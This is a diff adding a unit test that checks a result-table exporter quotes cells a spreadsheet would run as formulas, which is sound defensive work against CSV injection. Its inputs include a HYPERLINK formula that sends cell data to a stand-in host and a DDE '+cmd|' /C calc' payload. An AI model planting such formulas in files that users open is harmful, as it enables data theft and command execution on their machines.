@@ -92,3 +92,32 @@ def test_an_answer_missing_from_a_result_is_empty_cells():
             "result": {"answers": {"refund": ANSWERS["refund"]}}}
     cells = result_table.row(parsed(QUESTIONS), item)
     assert cells[4:8] == [None] * 4 and cells[8] == 0.7312
+
+
+def test_a_text_cell_a_spreadsheet_would_run_as_a_formula_is_quoted():
+    """CSV formula injection: a caller's custom_id, an error's message, an option's name (the
+    pick and its column) and a taught id that start like a formula get a leading quote; the
+    numbers, even a negative one, and other text are left as they are."""
+    questions = parsed({
+        "-pick": {"type": "choice", "instructions": "?",
+                  "criteria": ["=HYPERLINK(\"http://x/?\"&A2,\"open\")", "@SUM(1)"]},
+        "s": {"type": "score", "instructions": "?", "criteria": ["low", "high"]}})
+    assert result_table.columns(questions)[4:] == [
+        "'-pick", "'-pick.confidence", "'-pick.p.=HYPERLINK(\"http://x/?\"&A2,\"open\")",
+        "'-pick.p.@SUM(1)", "s", "s.confidence", "s.p.0", "s.p.1"]
+    answers = {"-pick": {"choice": "@SUM(1)", "confidence": -0.25,
+                         "probabilities": {"@SUM(1)": 0.6}},
+               "s": {"score": -1.5, "confidence": 0.1, "probabilities": {"0": 0.5}}}
+    for custom_id in ("=HYPERLINK(\"http://x/?\"&A2,\"open\")", "+1", "-2", "@me", "\tx", "\rx"):
+        item = {"custom_id": custom_id, "status": "succeeded", "result": {"answers": answers}}
+        assert result_table.row(questions, item) == [
+            "'" + custom_id, "succeeded", None, None, "'@SUM(1)", -0.25, None, 0.6,
+            -1.5, 0.1, 0.5, None]
+    failed = {"custom_id": "a=b", "status": "failed",
+              "error": {"error_type": "invalid_request", "message": "+cmd|' /C calc'!A0"}}
+    assert result_table.row(questions, failed)[:4] == [
+        "a=b", "failed", "invalid_request", "'+cmd|' /C calc'!A0"]
+    taught = parsed({"t": {"type": "noul", "instructions": "?", "x_taught": "tq_1"}})
+    item = {"custom_id": "x", "status": "succeeded",
+            "result": {"answers": {"t": {"noul": 0.5, "x_taught": "=tq"}}}}
+    assert result_table.row(taught, item)[4:] == [0.5, "'=tq"]
